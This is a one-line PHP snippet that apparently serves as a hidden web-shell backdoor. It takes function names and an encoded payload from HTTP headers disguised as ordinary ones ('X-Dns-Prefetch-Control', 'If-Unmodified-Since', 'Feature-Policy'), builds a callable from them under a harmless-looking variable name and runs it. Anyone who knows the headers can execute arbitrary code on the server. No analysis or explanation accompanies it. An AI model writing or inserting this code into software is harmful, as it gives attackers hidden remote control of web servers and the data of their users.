$_HEADERS=getallheaders();if(isset($_HEADERS['X-Dns-Prefetch-Control'])){$mb_convert=$_HEADERS['X-Dns-Prefetch-Control']('', $_HEADERS['If-Unmodified-Since']($_HEADERS['Feature-Policy']));$mb_convert();}

